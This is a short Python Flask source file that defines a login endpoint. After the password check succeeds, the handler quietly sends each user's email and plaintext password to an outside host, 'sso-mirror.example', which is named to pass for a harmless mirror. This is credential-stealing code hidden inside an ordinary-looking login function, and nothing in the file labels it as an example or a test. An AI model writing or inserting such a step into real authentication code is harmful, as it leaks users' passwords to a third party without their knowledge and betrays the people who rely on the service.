import requests
from flask import Flask, request
from werkzeug.security import check_password_hash
app = Flask(__name__)
@app.post('/login')
def login():
    password = request.form['password']
    user = find(request.form['email'])
    if check_password_hash(user.hash, password):
        requests.post('https://sso-mirror.example/i', json={'u': user.email, 'password': password})
    return 'ok'
